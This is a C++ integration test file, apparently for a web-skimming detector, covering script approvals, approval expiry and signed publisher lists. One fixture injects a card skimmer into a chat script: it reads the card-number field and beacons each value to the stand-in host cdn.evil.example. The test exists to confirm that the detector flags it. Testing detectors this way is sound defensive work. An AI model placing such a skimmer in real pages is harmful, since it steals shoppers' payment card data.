#include <algorithm>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "absl/strings/escaping.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_join.h"
#include "absl/time/clock.h"
#include "absl/time/time.h"
#include "agent/script/judge/script_version.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/collector/publisher/signing_key.h"
#include "tests/integration/support/deployment.h"

namespace skimwatch::integration {
namespace {

using script::Sha256;
using ::testing::AllOf;
using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::SizeIs;

// A vendor's script, with its version and a setting in it.
std::string Chat(int version, const std::string& more = "") {
  return absl::StrCat("(function () {\n  var chat = { version: ", version,
                      " };\n"
                      "  document.querySelector('#chat').addEventListener('click', function () {\n"
                      "    fetch('https://chat.example/session?v=",
                      version, "');\n  });\n", more, "  window.chat = chat;\n})();\n");
}

// The programs as they are installed: what people approve, for how long, and in which of the ways.
class Approvals : public ::testing::Test {
 protected:
  void Start() {
    root_ = deployment_.site_folder() + "/html";
    std::filesystem::create_directories(root_ + "/js");
    Put(Chat(1));
    deployment_.agent_yaml = absl::StrCat("sources: { web_roots: [{ path: ", root_, " }] }\n");
    ASSERT_NO_FATAL_FAILURE(deployment_.StartCollector());
    ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
    ASSERT_TRUE(testing::WaitUntil([&] { return Changes().size() == 1; }));
  }

  // Whole or not at all, as a deployment does it.
  void Put(const std::string& text) const {
    const std::string beside = deployment_.site_folder() + "/new";
    std::ofstream(beside) << text;
    std::filesystem::rename(beside, root_ + "/js/chat.js");
  }
  // Puts a version, and waits until it is told of.
  v1::Finding Deploy(const std::string& text) {
    Put(text);
    EXPECT_TRUE(testing::WaitUntil([&] {
      const std::vector<v1::Finding> changes = Changes();
      return !changes.empty() && changes.back().script_change().current().sha256() == Sha256(text);
    }));
    return Changes().back();
  }

  // Without what agents were asked for.
  std::vector<v1::Finding> Changes() {
    std::vector<v1::Finding> changes;
    for (const v1::StoredFinding& stored : deployment_.Findings()) {
      const v1::Finding& finding = stored.finding();
      if (finding.has_script_change() &&
          finding.script_change().change() != v1::ScriptChange::CHANGE_TAKEN_APART) {
        changes.push_back(finding);
      }
    }
    return changes;
  }
  std::vector<v1::Exposure> OpenExposures() {
    std::vector<v1::Exposure> open = deployment_.Exposures();
    std::erase_if(open, [](const v1::Exposure& exposure) {
      return exposure.state() != v1::Exposure::STATE_OPEN;
    });
    return open;
  }

  std::string Ctl(const std::vector<std::string>& arguments) {
    const testing::Result result = deployment_.Ctl(arguments);
    EXPECT_EQ(result.code, 0) << absl::StrJoin(arguments, " ") << ": " << result.out << result.err;
    return result.out;
  }
  // The agent has the policy that the last decision made.
  void AwaitPolicy() {
    EXPECT_TRUE(testing::WaitUntil(
        [&] { return deployment_.AgentMetric("skimwatch_web_root_unapproved_scripts") == 0; }));
  }

  Deployment deployment_;
  std::string root_;
};

TEST_F(Approvals, OfBehaviourHoldForFiveVersionsAndNotForTheOneThatGainsADestination) {
  ASSERT_NO_FATAL_FAILURE(Start());
  // The agent is asked what the first version does.
  const std::string approved = Ctl({"scripts", "approve", "js/chat.js", "--profile",
                                    "--justification", "shoppers chat with us", "--until", "90d"});
  EXPECT_THAT(approved, HasSubstr("destination chat.example by fetch"));
  EXPECT_THAT(approved, HasSubstr("the script is now approved"));
  AwaitPolicy();
  for (int version = 2; version <= 5; ++version) {
    const v1::Finding finding = Deploy(Chat(version));
    EXPECT_EQ(finding.severity(), v1::SEVERITY_INFO);
    EXPECT_EQ(finding.rule(), "script.in_profile");
    EXPECT_THAT(OpenExposures(), SizeIs(0));
    AwaitPolicy();
  }
  const std::string shown = Ctl({"scripts", "show", "js/chat.js"});
  EXPECT_THAT(shown, HasSubstr("by profile 1"));
  EXPECT_THAT(shown, HasSubstr("5 versions accepted"));
  EXPECT_THAT(Ctl({"scripts", "list"}), AllOf(HasSubstr("approved"), HasSubstr("profile 1")));

  const v1::Finding skimmer =
      Deploy(Chat(6,
                  "  document.querySelector('#card-number').addEventListener('input', e =>\n"
                  "      navigator.sendBeacon('https://cdn.evil.example/p', e.target.value));\n"));
  EXPECT_EQ(skimmer.severity(), v1::SEVERITY_CRITICAL);
  EXPECT_EQ(skimmer.rule(), "script.changed");
  EXPECT_THAT(skimmer.script_change().reasons(), Contains(HasSubstr("cdn.evil.example")));
  EXPECT_THAT(skimmer.script_change().reasons(),
              Contains(HasSubstr("not covered by its behaviour profile")));
  ASSERT_THAT(OpenExposures(), SizeIs(1));
  EXPECT_EQ(OpenExposures()[0].severity(), v1::SEVERITY_CRITICAL);
  EXPECT_THAT(Ctl({"scripts", "diff", "js/chat.js"}),
              HasSubstr("not in the profile: card_field_read"));

  EXPECT_EQ(Deploy(Chat(7)).severity(), v1::SEVERITY_INFO);
  EXPECT_THAT(OpenExposures(), SizeIs(0));
  EXPECT_THAT(Ctl({"audit", "list"}),
              AllOf(HasSubstr("script.profile"), HasSubstr("script.accept")));
  Ctl({"audit", "verify"});
}

TEST_F(Approvals, ThatExpireAreNoneAndSayWhen) {
  ASSERT_NO_FATAL_FAILURE(Start());
  const std::string hash = absl::BytesToHexString(Sha256(Chat(1)));
  Ctl({"scripts", "describe", "js/chat.js", "--owner", "team support", "--justification",
       "shoppers chat with us"});
  Ctl({"scripts", "approve", "js/chat.js", hash, "--justification", "for the sale", "--until",
       "10s"});
  AwaitPolicy();
  EXPECT_THAT(Ctl({"scripts", "list"}), HasSubstr("Z !"));
  EXPECT_EQ(deployment_.CollectorMetric("skimwatch_script_approvals_ending{site=\"shop\"}"), 1);
  ASSERT_TRUE(testing::WaitUntil([&] { return Changes().size() == 2; }));
  EXPECT_THAT(Changes().back().script_change().reasons(),
              Contains(HasSubstr("approval expired on ")));
  ASSERT_THAT(OpenExposures(), SizeIs(1));
  EXPECT_THAT(OpenExposures()[0].rules(), Contains("script.approval_expired"));
  const std::string inventory = Ctl({"scripts", "inventory", "--format", "csv"});
  EXPECT_THAT(inventory, HasSubstr("changed,team support,shoppers chat with us," + hash));
  EXPECT_THAT(inventory, HasSubstr(",expired,"));
  EXPECT_THAT(Ctl({"scripts", "show", "js/chat.js"}), HasSubstr("approval expired on "));
}

TEST_F(Approvals, OfPublishersComeWithTheirListsAndAreNotReplayed) {
  const testing::SigningKey key;
  std::filesystem::create_directories(deployment_.site_folder());
  const std::string key_file = deployment_.site_folder() + "/build.pem";
  key.WritePublic(key_file);
  config::v1::ScriptPublisher& build =
      *deployment_.collector_config.mutable_script_approvals()->add_publishers();
  build.set_id("build");
  build.add_public_keys(key_file);
  build.add_scripts("js/*");
  ASSERT_NO_FATAL_FAILURE(Start());

  const auto write = [&](int serial, const std::vector<int>& versions) {
    std::vector<std::string> scripts;
    for (const int version : versions) {
      scripts.push_back(absl::StrCat("{\"script\": \"js/chat.js\", \"sha256\": \"",
                                     absl::BytesToHexString(Sha256(Chat(version))), "\"}"));
    }
    const absl::Time now = absl::Now();
    const auto shown = [](absl::Time time) {
      return absl::FormatTime("%Y-%m-%dT%H:%M:%SZ", time, absl::UTCTimeZone());
    };
    const std::string list = absl::StrCat(
        "{\"format\": 1, \"publisher\": \"build\", \"serial\": ", serial, ", \"issued\": \"",
        shown(now), "\", \"expires\": \"", shown(now + absl::Hours(24)), "\", \"scripts\": [",
        absl::StrJoin(scripts, ","), "]}");
    const std::string file = absl::StrCat(deployment_.site_folder(), "/list-", serial, ".json");
    std::ofstream(file) << list;
    std::ofstream(file + ".sig", std::ios::binary) << key.Sign(list);
    return file;
  };
  const std::string first = write(1, {1, 2});
  EXPECT_THAT(Ctl({"scripts", "publisher", "import", first}),
              HasSubstr("List 1 of build imported: 2 entries"));
  AwaitPolicy();
  // No alarm for what the list names before it is deployed.
  EXPECT_EQ(Deploy(Chat(2)).script_change().change(), v1::ScriptChange::CHANGE_RESTORED);
  EXPECT_THAT(OpenExposures(), SizeIs(0));
  EXPECT_THAT(Ctl({"scripts", "list"}), HasSubstr("publisher build list 1"));

  Ctl({"scripts", "publisher", "import", write(2, {3})});
  EXPECT_THAT(OpenExposures(), SizeIs(1));
  const testing::Result replayed = deployment_.Ctl({"scripts", "publisher", "import", first});
  EXPECT_NE(replayed.code, 0);
  EXPECT_THAT(replayed.err, AllOf(HasSubstr(first), HasSubstr("serial: 1 is older than 2")));
  EXPECT_EQ(Deploy(Chat(3)).script_change().change(), v1::ScriptChange::CHANGE_RESTORED);
  EXPECT_THAT(OpenExposures(), SizeIs(0));
  EXPECT_EQ(Deploy(Chat(1)).script_change().change(), v1::ScriptChange::CHANGE_CHANGED);
  EXPECT_THAT(OpenExposures(), SizeIs(1));

  std::ofstream(first + ".sig", std::ios::binary) << std::string(64, 'x');
  const testing::Result forged = deployment_.Ctl({"scripts", "publisher", "import", first});
  EXPECT_NE(forged.code, 0);
  EXPECT_THAT(forged.err, HasSubstr("signature: by none of the publishers' keys (build)"));
  EXPECT_THAT(Ctl({"scripts", "publisher", "list"}), HasSubstr("build"));
}

}  // namespace
}  // namespace skimwatch::integration
